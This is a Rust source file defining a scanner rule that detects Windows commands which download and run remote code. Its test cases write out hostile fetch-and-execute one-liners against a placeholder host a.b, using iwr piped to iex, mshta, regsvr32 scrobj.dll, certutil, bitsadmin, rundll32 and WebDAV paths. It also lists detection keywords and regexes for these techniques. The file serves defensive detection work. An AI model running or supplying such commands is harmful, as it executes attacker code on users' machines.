//! Downloads that Windows runs.

use crate::destination::classify;
use crate::rule::{Category, Check, Hit, Rule, Severity, text};
use crate::unit::{ANYWHERE, Unit};

pub(super) const RULE: Rule = Rule {
    id: "DOWNLOAD_WINDOWS",
    category: Category::Download,
    severity: Severity::Critical,
    title: "a download is run on Windows",
    why: "What another machine sends is run, often by a program of Windows that nobody suspects.",
    fix: "download into a file, check it against a known hash, and run the file",
    places: ANYWHERE,
    anchors: &[
        "\\biex",
        "invoke-expression",
        "downloadstring",
        "downloadfile",
        "mshta",
        "certutil",
        "bitsadmin",
        "regsvr32",
        "rundll32",
        "msiexec",
        "start-bitstransfer",
        "net use",
        "@ssl",
        "@443",
        "@80\\",
        "installutil",
        "wmic",
        "cmstp",
        "hh.exe",
    ],
    check: Check::Unit(hits),
    hits: &[
        text("`iwr http://a.b/x.ps1 | iex`"),
        text("`irm a.b/x | iex`"),
        text("`iex (iwr -useb https://a.b/x.ps1)`"),
        text("`IEX ((New-Object Net.WebClient).DownloadString('https://a.b/x'))`"),
        text("`mshta http://a.b/x.hta`"),
        text("`certutil -urlcache -split -f http://a.b/x x.exe`"),
        text("`bitsadmin /transfer j http://a.b/x c:\\x.exe`"),
        text("`regsvr32 /s /n /u /i:http://a.b/x.sct scrobj.dll`"),
        text("`rundll32 \\\\a.b@80\\x,Start`"),
        text("`rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\";x`"),
        text("`msiexec /q /i http://a.b/x.msi`"),
        text("`nslookup -q=txt a.b | iex`"),
        text("`net use z: \\\\a.b@SSL@443\\x & z:\\y.exe`"),
        text("`Invoke-WebRequest https://a.b/x.exe -OutFile x.exe; Start-Process x.exe; iex x`"),
    ],
    misses: &[
        text("`irm https://astral.sh/uv/install.ps1 | iex`"),
        text("`iwr -useb https://get.scoop.sh | iex`"),
        text("`Invoke-Expression $line`"),
        text("`certutil -hashfile x SHA256`"),
        text("`msiexec /i x.msi`"),
        text("complexity"),
    ],
};

patterns! {
    FOUND = concat!(
        r"\b(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod|nslookup|DownloadString)\b[^\n]{0,300}?[|;]\s*(?:iex|invoke-expression)\b[^\n]{0,40}",
        r"|\b(?:iex|invoke-expression)\b[^\n]{0,40}?[\s(&{]{1,4}(?:\(?new-object\s|iwr\b|irm\b|curl\b|wget\b|invoke-webrequest\b|invoke-restmethod\b|\[[^\]\n]{1,40}webclient)[^\n]{0,300}",
        r"|\.Download(?:String|File|Data)\s*\(\s*['\x22][^\n]{1,300}",
        r"|\bmshta(?:\.exe)?\s+['\x22]?(?:https?:|vbscript:|javascript:|\\\\)[^\n]{0,200}",
        r"|\bcertutil(?:\.exe)?\s[^\n]{0,60}?-(?:urlcache|verifyctl|decode\s[^\n]{1,60}&&)[^\n]{0,200}",
        r"|\bbitsadmin(?:\.exe)?\s[^\n]{0,60}?/transfer[^\n]{0,200}",
        r"|\bstart-bitstransfer\b[^\n]{0,200}?;[^\n]{0,80}(?:start-process|&|\./|\.\\)[^\n]{0,80}",
        r"|\bregsvr32(?:\.exe)?\s[^\n]{0,60}?/i:\s*(?:https?|\\\\)[^\n]{0,200}",
        r"|\brundll32(?:\.exe)?\s[^\n]{0,40}?(?:https?:|javascript:|vbscript:|\\\\[^\s\\]+[@\\])[^\n]{0,200}",
        r"|\bmsiexec(?:\.exe)?\s[^\n]{0,40}?(?:/i|/package)\s*['\x22]?https?:[^\n]{0,200}",
        r"|\\\\[\w.-]+@(?:ssl(?:@[0-9]+)?|[0-9]{2,5})\\[^\n]{0,120}",
        r"|\bwmic(?:\.exe)?\s[^\n]{0,80}?/format:\s*['\x22]?https?:[^\n]{0,120}"
    );
    ADDRESS = r#"(?:h..ps?://|\b)[a-z0-9][a-z0-9.-]*\.[a-z]{2,}(?::[0-9]+)?(?:/[^\s"'`)|;]*)?"#;
    SCHEME = r#"h..ps?://[^\s"'`)|;]+"#;
}

fn hits(unit: &Unit<'_>) -> Vec<Hit> {
    let text = unit.text().as_bytes();
    let found = FOUND.find_iter(text).take(20);
    found.map(|found| Hit { severity: Some(severity(found.as_bytes())), ..Hit::at(found.range()) }).collect()
}

fn severity(command: &[u8]) -> Severity {
    let address = SCHEME.find(command).or_else(|| ADDRESS.find(command));
    let address = address.map(|found| String::from_utf8_lossy(found.as_bytes()).into_owned());
    address.map_or(Severity::Critical, |address| classify(&address).weight_of_running())
}
